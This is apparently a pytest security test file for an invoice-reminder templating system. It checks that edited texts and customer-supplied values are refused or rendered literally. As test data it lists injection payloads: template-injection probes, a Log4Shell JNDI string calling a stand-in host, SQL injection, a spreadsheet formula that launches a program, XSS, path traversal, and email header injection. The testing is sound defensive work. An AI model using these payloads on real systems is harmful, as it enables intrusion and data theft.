"""Edited texts and merged values reach nothing but their own characters (ASVS 1.3.7).

Each payload is refused or comes out as the literal text that it is.
"""

import pytest

from dunning.wording import WordingError, compose, lint, plain_text, preset
from dunning.wording.fields import BLOCK_MARK, FIELDS, values
from dunning.wording.formats import clean
from dunning.wording.liquid import SOURCE_LIMIT, fill
from dunning.wording.message import parse_parts
from dunning.wording.notice import Purpose
from dunning.wording.texts import Text
from tests.notices import NORTHWIND, notice

FILLED = values(notice())

REFUSED = (
    # Names that no field has.
    "{{ invoice.owner.password }}",
    "{{ invoice.delete }}",
    "{{ customer }}",
    "{{ user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.environ }}",
    "{{ self }}",
    "{{ config.items }}",
    "{{ _ }}",
    "{{ globals }}",
    "{{ env }}",
    # Attributes, indexes and methods of fields.
    "{{ amount_due.__class__ }}",
    "{{ amount_due.__class__.__mro__ }}",
    "{{ amount_due['__class__'] }}",
    "{{ amount_due.size }}",
    "{{ amount_due.first }}",
    "{{ amount_due.last }}",
    "{{ amount_due[0] }}",
    "{{ amount_due[contact_name] }}",
    "{{ ''.__class__ }}",
    "{{ contact_name.format }}",
    # Tags.
    "{% for i in (1..9999999) %}x{% endfor %}",
    "{% for line in invoice_table %}{{ line }}{% endfor %}",
    "{% tablerow i in (1..9) %}{{ i }}{% endtablerow %}",
    "{% assign amount_due = 'USD 0.01' %}",
    "{% capture amount_due %}USD 0.01{% endcapture %}",
    "{% include 'secrets' %}",
    "{% render 'secrets' %}",
    "{% extends 'base.html' %}",
    "{% load static %}",
    "{% debug %}",
    "{% increment amount_due %}",
    "{% decrement amount_due %}",
    "{% cycle 'a', 'b' %}",
    "{% case amount_due %}{% when 1 %}{% endcase %}",
    "{% unless offers_plan %}x{% endunless %}",
    "{% raw %}{{ x }}{% endraw %}",
    "{% comment %}x{% endcomment %}",
    "{% liquid echo amount_due %}",
    "{% echo amount_due %}",
    "{% # note %}",
    "{% csrf_token %}",
    "{% import os %}",
    # Filters.
    "{{ amount_due | upcase }}",
    "{{ 1 | ljust: 99999999 }}",
    "{{ 'x' | times: 99999999 }}",
    "{{ amount_due | append: contact_name }}",
    "{{ amount_due | replace: '1', '9' }}",
    "{{ 'x' | attr: '__class__' }}",
    "{{ amount_due | safe }}",
    "{{ amount_due | escape }}",
    "{{ 'now' | date: '%Y' }}",
    "{{ amount_due | json }}",
    "{{ amount_due | default: secret }}",
    # Conditions.
    "{% if amount_due.size > 1 %}x{% endif %}",
    "{% if nothing_known %}x{% endif %}",
    "{% if %}x{% endif %}",
    "{% if offers_plan %}x",
    "{% if offers_plan < contact_name %}x{% endif %}",
    # Broken syntax.
    "{{",
    "{{ amount_due",
    "{%",
    "{{ amount_due | }}",
    "{% if offers_plan %}" * 20 + "{% endif %}" * 20,
)

LITERAL = (
    "${amount_due}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{amount_due.__class__}",
    "%(amount_due)s",
    "%s%s%s%n",
    "$(id)",
    "`id`",
    "@{7*7}",
    "*{7*7}",
    "[[7*7]]",
    "{0.__globals__}",
    "{# comment #}",
    "'; DROP TABLE invoice; --",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "]]>",
    "../../etc/passwd",
    "${jndi:ldap://evil.test/a}",
)


@pytest.mark.parametrize("payload", REFUSED)
def test_a_text_that_reaches_for_more_is_refused(payload: str) -> None:
    with pytest.raises(WordingError):
        fill(payload, FILLED)


@pytest.mark.parametrize("payload", REFUSED)
def test_the_linter_refuses_it_before_it_is_saved(payload: str) -> None:
    text = Text(
        purpose=Purpose.REMINDER, channel="email", tone="firm", subject="Hello", body=payload
    )
    assert [problem.code for problem in lint(text)] == ["unreadable"]


@pytest.mark.parametrize("payload", LITERAL)
def test_other_template_languages_are_only_characters(payload: str) -> None:
    assert fill(payload, FILLED) == payload


@pytest.mark.parametrize("payload", REFUSED + LITERAL)
def test_a_value_is_never_read_as_a_text(payload: str) -> None:
    """A customer may be called anything; the name comes out as it is."""
    shown = notice(recipient=replace_name(payload))
    words = plain_text(compose(preset(Purpose.REMINDER, "email", "firm"), shown), shown)
    assert " ".join(clean(payload).split()) in " ".join(words.split())


def replace_name(name: str) -> object:
    return type(NORTHWIND)(number="C-1", company="Ltd", name=name, address=NORTHWIND.address)


@pytest.mark.parametrize(
    "value",
    [
        "Jane\r\nBcc: everyone@x.test",
        "Jane\nSubject: other",
        "Jane\x00Doe",
        "Jane\u202edoe",
        "Jane\u2028Doe",
        "Jane\x1b[31m",
        f"{BLOCK_MARK}invoice_table{BLOCK_MARK}",
        "\ue001amount_due\ue001",
        "\ufeffJane",
    ],
)
def test_values_lose_line_breaks_and_invisible_characters(value: str) -> None:
    cleaned = clean(value)
    assert cleaned.isprintable()
    assert "\n" not in cleaned


def test_a_value_cannot_forge_a_block() -> None:
    forged = notice(recipient=replace_name(f"{BLOCK_MARK}consequences{BLOCK_MARK}"))
    message = compose(preset(Purpose.REMINDER, "email", "firm"), forged)
    assert not message.has("consequences")


def test_an_essay_as_a_value_is_cut() -> None:
    assert len(clean("x" * 10_000)) == 300


def test_a_text_longer_than_the_limit_is_refused() -> None:
    with pytest.raises(WordingError, match="longer"):
        fill("x" * (SOURCE_LIMIT + 1), FILLED)


def test_output_is_limited_too() -> None:
    long = {**FILLED, "contact_name": "x" * 300_000}
    with pytest.raises(WordingError):
        fill("{{ contact_name }}", long)


def test_every_field_is_a_plain_word_or_a_flag() -> None:
    """Nothing behind a name has attributes worth reaching for."""
    assert {type(value) for value in FILLED.values()} == {str, bool}
    assert set(FILLED) == set(FIELDS)


def test_html_in_a_text_stays_text() -> None:
    (part,) = parse_parts("<b>bold</b> & more")
    assert part.kind == "paragraph"
